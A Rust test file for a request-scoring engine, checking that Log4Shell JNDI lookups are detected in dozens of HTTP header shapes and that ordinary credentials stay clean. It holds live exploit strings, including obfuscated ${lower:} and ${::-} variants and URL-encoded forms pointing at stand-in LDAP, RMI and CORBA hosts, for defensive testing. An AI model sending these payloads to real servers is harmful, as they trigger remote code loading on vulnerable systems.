//! Log4Shell in every header (issue 12): whatever a server logs can trigger the lookup, so a
//! `${jndi:...}` is scored in every header value, in every shape the header policy
//! (`scoring::headers`) reads differently: machine-formatted headers exempt while they parse,
//! credentials (a Bearer token, the user name and the password of `Basic`), Origin/Referer
//! with their host dropped, cookies, and values without a space.

mod common;

use base64::Engine as _;
use common::patterns_only;
use scoring::headers::forwarded_value;
use scoring::ScoreInput;

const LOOKUPS: &[&str] = &[
    "${jndi:ldap://198.51.100.7:1389/a}",
    "${${lower:j}ndi:${lower:l}dap://x.oast.example/o}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
    "%24%7Bjndi:dns://x.example/a%7D",
    // Every byte a token character: a valid Accept-Encoding item or auth scheme as it stands.
    "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
];

fn b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

/// An unsigned JWT whose `sub` claim is `claim`.
fn jwt(claim: &str) -> String {
    let part = |t: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(t);
    format!("{}.{}.", part("{\"alg\":\"none\",\"typ\":\"JWT\"}"), part(&format!("{{\"sub\":\"{claim}\",\"iat\":1700000000}}")))
}

/// Every way a lookup can sit in a header value that the policy reads specially.
fn shapes(lookup: &str) -> Vec<(&'static str, String)> {
    vec![
        ("Authorization", lookup.to_string()),
        ("Authorization", format!("Bearer {lookup}")),
        ("Authorization", format!("Bearer {}", jwt(lookup))),
        ("Authorization", jwt(lookup)),
        ("Authorization", format!("Basic {}", b64(&format!("{lookup}:secret")))),
        ("Authorization", format!("Basic {}", b64(&format!("admin:{lookup}")))),
        ("Authorization", format!("Digest username=\"{lookup}\", realm=\"r\"")),
        ("Authorization", format!("AWS4-HMAC-SHA256 Credential={lookup}")),
        ("Proxy-Authorization", format!("Basic {}", b64(&format!("u:{lookup}")))),
        ("Proxy-Authorization", format!("Bearer {lookup}")),
        ("Content-Type", format!("application/json; charset={lookup}")),
        ("Content-Type", lookup.to_string()),
        ("Content-Length", lookup.to_string()),
        ("Accept", format!("text/html;q={lookup}")),
        ("Accept-Encoding", lookup.to_string()),
        ("Accept-Language", format!("en-US,{lookup};q=0.9")),
        ("Connection", lookup.to_string()),
        ("Pragma", lookup.to_string()),
        ("Keep-Alive", format!("timeout={lookup}")),
        ("If-Modified-Since", lookup.to_string()),
        ("If-None-Match", format!("\"{lookup}\"")),
        ("Host", lookup.to_string()),
        ("Host", format!("www.example.com:{lookup}")),
        ("Origin", format!("https://www.example.com/{lookup}")),
        ("Referer", format!("https://{lookup}/")),
        ("Referer", format!("http://10.0.0.5/cart?x={lookup}")),
        ("Cookie", lookup.to_string()),
        ("Cookie", format!("sid=ab12; {lookup}=1")),
        // The cookie parser splits at the base64 padding `=`: the lookup is cut in two.
        ("Cookie", format!("${{${{base64:{}}}}}", b64("jndi:corba://x.example/350207"))),
        ("User-Agent", lookup.to_string()),
        ("X-Api-Version", lookup.to_string()),
        ("X-Forwarded-For", format!("203.0.113.9, {lookup}")),
        ("Transfer-Encoding", lookup.to_string()),
        ("DNT", lookup.to_string()),
        ("TE", lookup.to_string()),
    ]
}

#[test]
fn a_lookup_is_found_in_every_header_shape() {
    let engine = patterns_only();
    let deserialization = scoring::detectors::detector_id("deserialization").unwrap();
    let mut misses = Vec::new();
    let mut total = 0;
    for lookup in LOOKUPS {
        for (name, value) in shapes(lookup) {
            total += 1;
            let headers = vec![(name.to_string(), value.clone())];
            let r = engine.score_patterns(&ScoreInput { request_text: "GET /\n", headers: &headers });
            // Another detector may win the verdict (an `ldap://` URL is SSRF too): the lookup
            // must still score on its own.
            let found = r.breakdown.get(deserialization) > engine.threshold();
            if !found {
                misses.push(format!("{name}: {value} -> {} {}", r.detector, r.reason));
            }
        }
    }
    println!("jndi in headers: {}/{total} found", total - misses.len());
    assert!(misses.is_empty(), "lookups not scored:\n{}", misses.join("\n"));
}

/// A remote scorer sees only what the front door forwards: a lookup in a Basic password must
/// travel, while an ordinary password still never does.
#[test]
fn a_lookup_in_a_basic_password_is_forwarded_and_a_plain_password_is_not() {
    let attack = format!("Basic {}", b64("admin:${jndi:ldap://x.example/a}"));
    assert_eq!(forwarded_value("Authorization", &attack).as_deref(), Some(attack.as_str()));
    for password in ["s3cr3t!", "pa$$w{rd}", "${HOME}x", "a:b:c"] {
        let plain = format!("Basic {}", b64(&format!("admin:{password}")));
        let forwarded = forwarded_value("Authorization", &plain).expect("the user name travels");
        assert_eq!(forwarded, format!("Basic {}", b64("admin:")), "{password}");
    }
}

#[test]
fn ordinary_credentials_and_machine_headers_stay_clean() {
    let engine = patterns_only();
    let headers: Vec<(String, String)> = [
        ("Authorization", format!("Basic {}", b64("alice:pa$${word}!"))),
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_".to_string()),
        ("Content-Length", "348".to_string()),
        ("Content-Type", "application/json; charset=utf-8".to_string()),
        ("Accept-Language", "en-US,en;q=0.9".to_string()),
        ("Cookie", "sid=ab12; theme=dark".to_string()),
    ]
    .into_iter()
    .map(|(n, v)| (n.to_string(), v))
    .collect();
    for pair in &headers {
        let one = std::slice::from_ref(pair);
        let r = engine.score_patterns(&ScoreInput { request_text: "GET /\n", headers: one });
        assert_eq!(r.score, 0.0, "{pair:?}: {r:?}");
    }
}
